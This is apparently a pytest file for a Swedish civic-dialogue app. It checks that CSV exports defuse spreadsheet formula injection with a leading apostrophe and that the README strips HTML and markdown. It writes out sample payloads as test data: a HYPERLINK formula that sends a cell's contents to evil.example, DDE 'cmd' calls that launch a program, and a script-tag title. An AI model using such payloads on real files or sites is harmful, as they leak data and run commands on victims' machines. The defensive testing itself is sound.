"""Open data that reaches a spreadsheet is data, never a formula; the README is plain text.

A perspective or a group name starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return would run as a formula when a committee secretary opens ``data.zip``'s CSV in a
spreadsheet. Every CSV the product writes neutralises such cells with a leading ``'``
(OWASP); the Polis export stays re-importable to the same text.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from flask.testing import FlaskClient

from dialog.analysis.polis_data import read_polis_export
from dialog.extensions import db
from dialog.models import Process
from phases.inventering.map.polis_export import export_polis
from tests.conftest import World, bearer
from tests.publish.conftest import Publisher, zip_texts

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1 med tabb först",
    "\r=1+1 med vagnretur först",
    "＝1+1 med bred likhetstecken",
]
#: As stored: a perspective's text is stripped of leading and trailing whitespace.
STORED = [text.strip() for text in FORMULAS]
EVIL_GROUP = "=HYPERLINK(\"http://evil.example\",\"Unga\")"
EVIL_TITLE = "<script>alert(1)</script> [Läs mer](http://evil.example) **Trygghet** # Rubrik"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@pytest.fixture
def evil(make_world: Callable[..., World], client: FlaskClient) -> Publisher:
    world = make_world(groups=(EVIL_GROUP, "unga", "skola", "polis"))
    with db.transaction() as session:
        process = session.get(Process, world.process_id)
        assert process is not None
        process.title = EVIL_TITLE
        process.owner_organisation = "@Kommunen <b>fet</b>"
    slug = client.get(f"/api/v1/processes/{world.process_id}",
                      headers=bearer(world.facilitator_token)).json["slug"]
    publisher = Publisher(client, world.facilitator_token, world.process_id, slug,
                          world.workshop_id, world.join_code)
    for text in FORMULAS:
        _id, status = publisher.write(text, group=EVIL_GROUP)
        assert status == "approved"
    return publisher


def csv_cells(files: dict[str, str]) -> dict[str, list[str]]:
    return {name: [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
            for name, text in files.items() if name.endswith(".csv")}


def test_no_cell_of_the_open_data_starts_a_formula(evil: Publisher):
    evil.publish()
    cells = csv_cells(zip_texts(evil.file("data.zip")))
    assert cells
    for name, found in cells.items():
        dangerous = [c for c in found if c.startswith(TRIGGERS)]
        assert not dangerous, (name, dangerous)


def test_the_text_stays_readable_behind_the_apostrophe(evil: Publisher):
    evil.publish()
    cells = csv_cells(zip_texts(evil.file("data.zip")))
    texts = set(cells["perspectives.csv"])
    for text in STORED:
        assert "'" + text in texts
    assert "'" + EVIL_GROUP in texts


def test_numbers_stay_numbers(evil: Publisher):
    evil.publish()
    rows = list(csv.DictReader(io.StringIO(zip_texts(evil.file("data.zip"))["polis/votes.csv"])))
    assert all(not row["vote"].startswith("'") for row in rows)


def test_the_readme_does_not_carry_html_or_markdown_from_titles(evil: Publisher):
    evil.publish()
    readme = zip_texts(evil.file("data.zip"))["README.md"]
    assert "<script>" not in readme
    assert "<b>" not in readme
    assert "](http://evil.example)" not in readme
    assert "**Trygghet**" not in readme
    assert "Trygghet" in readme
    headings = [line for line in readme.splitlines() if line.startswith("#")]
    assert not any("Rubrik" in line and not line.startswith("# Öppna data") for line in headings)


def test_the_polis_export_neutralises_cells_and_imports_back_to_the_same_text(
        evil: Publisher, tmp_path: Path):
    with db.transaction() as session:
        process = session.get(Process, evil.process_id)
        assert process is not None
        export_polis(session, process, tmp_path)
    with (tmp_path / "comments.csv").open(encoding="utf-8", newline="") as handle:
        bodies = [row["comment-body"] for row in csv.DictReader(handle)]
    assert bodies
    assert not any(body.startswith(TRIGGERS) for body in bodies)
    again = read_polis_export(tmp_path)
    assert sorted(c.body for c in again.comments) == sorted(STORED)


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+46 70", "'+46 70"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tTAB", "'\tTAB"), ("\rCR", "'\rCR"), ("＝1+1", "'＝1+1"),
    ("-1", "-1"), ("+2", "+2"), ("-2.5", "-2.5"), (-1, -1), (3, 3), ("", ""), (None, None),
    ("Mer ljus i parken", "Mer ljus i parken"),
])
def test_one_cell_is_neutralised_and_restored(cell: object, written: object):
    from dialog.services.csv_cells import restore_cell, safe_cell

    assert safe_cell(cell) == written
    if isinstance(cell, str):
        assert restore_cell(str(written)) == cell
